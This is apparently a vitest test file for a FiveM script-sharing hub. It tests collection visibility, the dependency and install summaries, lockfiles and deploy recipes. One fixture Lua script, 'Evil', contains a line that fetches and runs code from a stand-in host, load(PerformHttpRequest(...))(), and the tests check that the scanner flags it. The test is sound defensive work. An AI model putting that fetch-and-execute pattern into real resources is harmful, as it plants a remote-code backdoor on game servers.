import { JSON_SCHEMA, load } from 'js-yaml'
import { expect, test } from 'vitest'
import { z } from 'zod/mini'

import { analyseAll } from '#test-support/analyses.ts'
import { zipOf } from '#test-support/archives/zip.ts'
import { scriptForm } from '#test-support/script-forms.ts'
import { startTestApp, type TestUser } from '#test-support/test-app.ts'

const app = await startTestApp()
const author = await app.createUser('scripts.upload')
const owner = await app.createUser()

async function submit(name: string, lines: string, code = 'print(1)') {
  const resource = name.toLowerCase()
  const manifest = `fx_version 'cerulean'\ngame 'gta5'\nserver_script 's.lua'\n${lines}\n`
  const content = zipOf([
    { name: `${resource}/fxmanifest.lua`, content: manifest },
    { name: `${resource}/s.lua`, content: `${code} -- ${name}` },
    { name: `${resource}/${resource}.sql`, content: 'create table t (id int);' },
  ])
  const form = await scriptForm({ name }, { archive: { fileName: 'a.zip', content } })
  const { body, status } = await app.request(author, 'POST', '/api/scripts', form)
  expect(status).toBe(201)
  await analyseAll(app)
  return { id: Number(body.id), versionId: Number(body.versionId) }
}

const core = await submit('Core', "dependency '/server:6116'")
const bank = await submit('Bank', "dependencies { 'core', 'oxmysql', '/onesync' }")
const evil = await submit('Evil', '', "load(PerformHttpRequest('https://a.example'))()")

async function collect(entries: Record<string, unknown>[], visibility = 'public') {
  const { body } = await app.request(owner, 'POST', '/api/collections', { title: 'Roleplay', visibility })
  await app.request(owner, 'PUT', `/api/collections/${body.id}/entries`, { entries })
  return Number(body.id)
}
const read = (user: TestUser | null, id: number, what: 'install' | 'files', query = '') =>
  app.request(user, 'GET', `/api/collections/${id}/${what}${query}`)
const deploy = (user: TestUser | null, id: number) =>
  app.request(user, 'POST', `/api/collections/${id}/deploy`)
const downloadsOf = async (id: number) =>
  (await app.request(null, 'GET', `/api/scripts/${id}`)).body.downloads

test('what others cannot see has no files, needs and recipe for them', async () => {
  const member = await app.createUser()
  for (const visibility of ['private', 'link']) {
    const id = await collect([{ scriptId: bank.id }], visibility)

    for (const user of [null, member]) {
      expect((await read(user, id, 'install')).status).toBe(404)
      expect((await read(user, id, 'files')).status).toBe(404)
    }
    expect((await deploy(member, id)).status).toBe(404)
    expect((await deploy(null, id)).status).toBe(401)
    expect((await read(owner, id, 'install')).status).toBe(200)
    const { key } = (await app.request(owner, 'GET', `/api/collections/${id}`)).body
    const { status } = await read(null, id, 'files', `?key=${key ?? ''}`)
    expect(status).toBe(key === null ? 404 : 200)
  }
  expect(await downloadsOf(bank.id)).toBe(0)
})

test('the needs, findings and lines for server.cfg are those of all scripts together', async () => {
  const id = await collect([{ scriptId: bank.id }, { scriptId: evil.id }])

  const { body } = await read(null, id, 'install')

  expect(body).toMatchObject({
    comesAlong: [{ id: core.id, name: 'Core' }],
    missing: [{ name: 'oxmysql', isDeclared: true }],
    server: { build: 6116, onesync: true, gameBuild: null },
    flagged: [{ id: evil.id, name: 'Evil', high: 1 }],
    unscanned: 0,
    cycles: [],
    problems: [],
  })
  expect(body.cfg.split('\n').slice(2)).toEqual(['ensure core', 'ensure bank', 'ensure evil', ''])
  await app.request(owner, 'DELETE', `/api/collections/${id}/scripts/${evil.id}`)
  expect((await read(null, id, 'install')).body).toMatchObject({ flagged: [], counts: { high: 0 } })
  expect((await read(null, await collect([]), 'install')).body).toMatchObject({ comesAlong: [], cfg: '' })
})

test('the files name the scripts, their versions and what they need', async () => {
  const id = await collect([{ scriptId: bank.id, versionId: bank.versionId }, { scriptId: core.id }])

  const { project, lock } = (await read(null, id, 'files')).body

  expect(JSON.parse(project)).toEqual({
    hub: app.app.config.publicUrl,
    scripts: { [bank.id]: '1.0.0', [core.id]: 'latest' },
    folder: 'resources/[scripthaven]',
    cooldown: '3d',
  })
  expect(JSON.parse(lock)).toMatchObject({
    formatVersion: 1,
    scripts: {
      [bank.id]: { name: 'Bank', kind: 'zip', version: '1.0.0', needs: { core: core.id, oxmysql: null } },
      [core.id]: { name: 'Core', needs: {} },
    },
    start: ['core', 'bank'],
  })
})

const Recipe = z.object({
  name: z.string(),
  $minFxVersion: z.number(),
  tasks: z.array(z.looseObject({ action: z.string() })),
})

test('the recipe installs all scripts and what they need, and each one counts as a download', async () => {
  const id = await collect([{ scriptId: bank.id }])
  const member = await app.createUser()

  const { status, body } = await deploy(member, id)

  expect(status).toBe(200)
  const { tasks, ...recipe } = Recipe.parse(load(body.recipe, { schema: JSON_SCHEMA }))
  expect(recipe).toEqual({ name: 'Roleplay', $minFxVersion: 6116 })
  const actions = tasks.map(({ action }) => action)
  expect(actions.filter((action) => action === 'download_file')).toHaveLength(2)
  expect(actions.slice(-4)).toEqual(['connect_database', 'query_database', 'query_database', 'write_file'])
  expect(tasks.at(-1)).toMatchObject({ data: expect.stringContaining('ensure core\nensure bank\n') })
  const [first] = tasks
  const path = new URL(String(first?.['url'])).pathname
  expect((await fetch(new URL(path, app.url))).status).toBe(200)
  expect(await downloadsOf(bank.id)).toBe(1)
  expect(await downloadsOf(core.id)).toBe(1)
  expect((await deploy(member, await collect([]))).body).toMatchObject({
    recipe: null,
    notes: ['There is no recipe, because no script of this collection can be in one.'],
  })
})
